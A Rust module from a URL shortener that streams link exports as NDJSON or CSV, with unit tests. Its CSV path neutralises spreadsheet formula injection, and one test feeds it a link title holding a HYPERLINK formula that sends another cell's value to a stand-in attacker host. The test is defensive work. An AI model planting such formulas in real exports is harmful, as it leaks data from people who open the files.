//! Every link a caller reaches, as NDJSON or CSV, one page of the keyset walk at a time
//! (newest first, the listing's order), so that an export of any size holds one page in
//! memory. The HTTP API's `GET /api/v1/links/export` streams it, and `shortener export`
//! writes it ([`write()`]).
//!
//! A line (`LinkLine`) has the link's domain (its host; none for the default domain, so
//! that an import puts it on the importing service's default domain), code, target (in its stored ASCII form, which a
//! redirect sends and an import reads back unchanged), creation and expiry times (RFC
//! 3339, UTC), its visit limit, its visits, its owner, its redirect options and its tags. `shortener
//! import --from ndjson` reads the same type back. Not here: visits per day, which
//! `/api/v1/links/{code}/visits` gives.

use serde::{Deserialize, Serialize};
use shortener_core::{Access, Link, LinkRepository, ListCursor, ListQuery, Owner, RepositoryError};
use time::OffsetDateTime;
use time::format_description::well_known::Rfc3339;

/// Links read per step of the walk.
const PAGE: usize = 500;

/// The columns of a CSV export, in order: the fields of [`LinkLine`].
pub(crate) const COLUMNS: [&str; 16] = [
    "domain",
    "code",
    "url",
    "created_at",
    "expires_at",
    "max_visits",
    "visits",
    "owner",
    "redirect_status",
    "forward_query",
    "expired_url",
    "title",
    "crawlable",
    "tags",
    "password_hash",
    "rules",
];

/// One link as an export writes it and an import reads it: an NDJSON object, or a CSV
/// record of [`COLUMNS`]. Unknown fields are refused on reading, so that a file of
/// another shape is not half-imported; fields after `url` and `created_at` may be left
/// out.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct LinkLine {
    /// The link's domain by its host; none (`null`, an empty field) for the default one.
    #[serde(default)]
    pub domain: Option<String>,
    pub code: String,
    pub url: String,
    pub created_at: String,
    #[serde(default)]
    pub expires_at: Option<String>,
    #[serde(default)]
    pub max_visits: Option<u64>,
    #[serde(default)]
    pub visits: u64,
    #[serde(default)]
    pub owner: Option<String>,
    #[serde(default)]
    pub redirect_status: Option<u16>,
    #[serde(default)]
    pub forward_query: Option<bool>,
    #[serde(default)]
    pub expired_url: Option<String>,
    #[serde(default)]
    pub title: Option<String>,
    #[serde(default)]
    pub crawlable: bool,
    /// The tags, separated by commas (which no tag holds), in order.
    #[serde(default)]
    pub tags: String,
    /// The argon2id hash of the link's password (never the password), so that a link
    /// exported behind a password is imported behind the same one.
    #[serde(default)]
    pub password_hash: Option<String>,
    /// The link's redirect rules as JSON text (the API's `rules` array), so that a CSV
    /// cell holds them as well as an NDJSON field; none when the link has none.
    #[serde(default)]
    pub rules: Option<String>,
}

impl From<&Link> for LinkLine {
    fn from(link: &Link) -> Self {
        let time = |at: OffsetDateTime| at.format(&Rfc3339).unwrap_or_default();
        let options = &link.options;
        Self {
            domain: (!link.domain.is_default()).then(|| link.domain.as_str().to_owned()),
            code: link.code.as_str().to_owned(),
            url: link.url.as_str().to_owned(),
            created_at: time(link.created_at),
            expires_at: link.expires_at.map(time),
            max_visits: link.max_visits,
            visits: link.visits,
            owner: link.owner.as_ref().map(|owner| owner.as_str().to_owned()),
            redirect_status: options.redirect_status.map(|status| status.code()),
            forward_query: options.forward_query,
            expired_url: (options.expired_url.as_ref()).map(|url| url.as_str().to_owned()),
            title: options
                .title
                .as_ref()
                .map(|title| title.as_str().to_owned()),
            crawlable: options.crawlable,
            tags: link.tags.names().collect::<Vec<_>>().join(","),
            password_hash: (options.password.as_ref()).map(|hash| hash.as_str().to_owned()),
            rules: shortener_core::OptionColumns::from(options).rules,
        }
    }
}

impl LinkLine {
    /// The line with every text cell safe to open in a spreadsheet, as OWASP's "CSV
    /// injection" advice has it: a cell that starts with `=`, `+`, `-`, `@`, a tab or a
    /// carriage return (which a spreadsheet reads as a formula, `HYPERLINK` and
    /// `WEBSERVICE` included) gets a `'` in front, so that it is shown as text. Titles and
    /// tags are anyone's to write (an anonymous create, an import); the NDJSON export
    /// carries them unchanged, since nothing evaluates JSON.
    fn formula_safe(self) -> Self {
        let cell = |text: String| -> String {
            if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                format!("'{text}")
            } else {
                text
            }
        };
        let optional = |text: Option<String>| text.map(cell);
        Self {
            domain: optional(self.domain),
            code: cell(self.code),
            url: cell(self.url),
            owner: optional(self.owner),
            expired_url: optional(self.expired_url),
            title: optional(self.title),
            // Each tag of the cell, since a spreadsheet may split it on its commas.
            tags: (self.tags.split(','))
                .map(|tag| cell(tag.to_owned()))
                .collect::<Vec<_>>()
                .join(","),
            password_hash: optional(self.password_hash),
            ..self
        }
    }
}

/// How an export is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON object per line (`application/x-ndjson`).
    Ndjson,
    /// RFC 4180 CSV with a header line (`text/csv`).
    Csv,
}

impl Format {
    /// `ndjson` or `csv`; `None` for anything else.
    pub fn parse(name: &str) -> Option<Self> {
        match name {
            "ndjson" => Some(Self::Ndjson),
            "csv" => Some(Self::Csv),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Self::Ndjson => "application/x-ndjson",
            Self::Csv => "text/csv; charset=utf-8",
        }
    }

    /// What comes before the first link: the CSV header line.
    pub fn header(self) -> String {
        match self {
            Self::Ndjson => String::new(),
            Self::Csv => COLUMNS.join(",") + "\r\n",
        }
    }

    /// One link's line, with its line break.
    pub fn line(self, link: &Link) -> String {
        let line = LinkLine::from(link);
        match self {
            // Serializing a struct of strings, numbers and booleans cannot fail.
            Self::Ndjson => serde_json::to_string(&line).unwrap_or_default() + "\n",
            Self::Csv => {
                let line = line.formula_safe();
                // RFC 4180 by the csv crate that `shortener import` reads with: a field is
                // quoted only when it holds a comma, a quote or a line break; `None` is an
                // empty field.
                let mut writer = csv::WriterBuilder::new()
                    .has_headers(false)
                    .terminator(csv::Terminator::CRLF)
                    .from_writer(Vec::new());
                // Writing to memory cannot fail, and every field is UTF-8.
                let _ = writer.serialize(&line);
                let bytes = writer.into_inner().unwrap_or_default();
                String::from_utf8(bytes).unwrap_or_default()
            }
        }
    }
}

/// Who an export is for: every link, or one owner's (an owned [`Access`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reach {
    All,
    Owner(Owner),
}

impl Reach {
    fn access(&self) -> Access<'_> {
        match self {
            Self::All => Access::All,
            Self::Owner(name) => Access::Owner(name),
        }
    }
}

/// The next page of the walk after `after` (`None`: from the newest), written in
/// `format`, and where the walk goes on (`None` when this was the last page).
///
/// # Errors
/// When storage fails; the walk can be resumed from the same `after`.
pub async fn page(
    repository: &impl LinkRepository,
    reach: &Reach,
    format: Format,
    after: Option<ListCursor>,
) -> Result<(String, Option<ListCursor>), RepositoryError> {
    let query = ListQuery {
        order: shortener_core::ListOrder::Newest,
        offset: 0,
        after,
        limit: PAGE,
        search: None,
        tags: shortener_core::Tags::default(),
        domain: None,
        within: shortener_core::ListWithin::default(),
    };
    let links = repository.list(reach.access(), &query).await?;
    let next = (links.len() == PAGE)
        .then(|| links.last().map(ListCursor::after))
        .flatten();
    let text = links.iter().map(|link| format.line(link)).collect();
    Ok((text, next))
}

/// An export that could not be written to its end.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Storage(#[from] RepositoryError),
    #[error(transparent)]
    Io(#[from] std::io::Error),
}

/// Writes every link of `repository` that `reach` covers to `out`, page by page; returns
/// how many. What `shortener export` runs.
///
/// # Errors
/// When the repository cannot be read, or `out` cannot be written.
pub async fn write(
    repository: &impl LinkRepository,
    format: Format,
    reach: &Reach,
    out: &mut impl std::io::Write,
) -> Result<usize, ExportError> {
    out.write_all(format.header().as_bytes())?;
    let (mut after, mut links) = (None, 0);
    loop {
        let (text, next) = page(repository, reach, format, after).await?;
        links += text.lines().count();
        out.write_all(text.as_bytes())?;
        match next {
            Some(next) => after = Some(next),
            None => break,
        }
    }
    out.flush()?;
    Ok(links)
}

#[cfg(test)]
mod tests {
    use shortener_core::{ShortCode, TargetUrl};

    use super::*;

    fn link() -> Link {
        Link {
            domain: shortener_core::Domain::default(),
            code: ShortCode::parse("abc").unwrap(),
            url: TargetUrl::parse("https://example.com/a,b?q=%22x%22").unwrap(),
            created_at: OffsetDateTime::UNIX_EPOCH,
            expires_at: None,
            max_visits: Some(3),
            visits: 2,
            owner: Some(Owner::parse("team").unwrap()),
            tags: shortener_core::Tags::parse(["b", "a"]).unwrap(),
            options: shortener_core::LinkOptions {
                title: Some(shortener_core::Title::parse("Say \"hi\"").unwrap()),
                ..Default::default()
            },
        }
    }

    #[test]
    fn a_csv_line_quotes_what_needs_it() {
        assert_eq!(
            Format::Csv.header(),
            "domain,code,url,created_at,expires_at,max_visits,visits,owner,\
             redirect_status,forward_query,expired_url,title,crawlable,tags,password_hash,rules\r\n"
        );
        assert_eq!(
            Format::Csv.line(&link()),
            ",abc,\"https://example.com/a,b?q=%22x%22\",1970-01-01T00:00:00Z,,3,2,team,\
             ,,,\"Say \"\"hi\"\"\",false,\"a,b\",,\r\n"
        );
        // The header names the fields the serializer writes, in its order.
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.serialize(LinkLine::default()).unwrap();
        let written = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        assert_eq!(written.lines().next(), Some(COLUMNS.join(",").as_str()));
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
        let formulas = Link {
            code: ShortCode::parse("-2x").unwrap(),
            tags: shortener_core::Tags::parse(["@sum", "fine", "+1"]).unwrap(),
            options: shortener_core::LinkOptions {
                title: Some(
                    shortener_core::Title::parse("=HYPERLINK(\"https://evil.example/?\"&O2)")
                        .unwrap(),
                ),
                ..Default::default()
            },
            ..link()
        };
        let line = Format::Csv.line(&formulas);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(line.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[1], "'-2x");
        assert_eq!(&record[11], "'=HYPERLINK(\"https://evil.example/?\"&O2)");
        assert_eq!(&record[13], "'+1,'@sum,fine");
        for (index, cell) in record.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "column {index}: {cell:?}"
            );
        }
        // NDJSON is not a spreadsheet's: the values as they are.
        let value: serde_json::Value =
            serde_json::from_str(&Format::Ndjson.line(&formulas)).unwrap();
        assert_eq!(value["title"], "=HYPERLINK(\"https://evil.example/?\"&O2)");
        assert_eq!(value["code"], "-2x");
    }

    #[test]
    fn an_ndjson_line_is_one_object() {
        let line = Format::Ndjson.line(&link());
        assert!(line.ends_with('\n') && line.matches('\n').count() == 1);
        let value: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(value["url"], "https://example.com/a,b?q=%22x%22");
        assert_eq!(value["expires_at"], serde_json::Value::Null);
        assert_eq!(value["owner"], "team");
        assert_eq!(
            value["domain"],
            serde_json::Value::Null,
            "the default domain"
        );
        let elsewhere = Link {
            domain: shortener_core::Domain::parse("go.example.org").unwrap(),
            ..link()
        };
        let value: serde_json::Value =
            serde_json::from_str(&Format::Ndjson.line(&elsewhere)).unwrap();
        assert_eq!(value["domain"], "go.example.org");
        assert_eq!(Format::parse("xml"), None);
    }
}
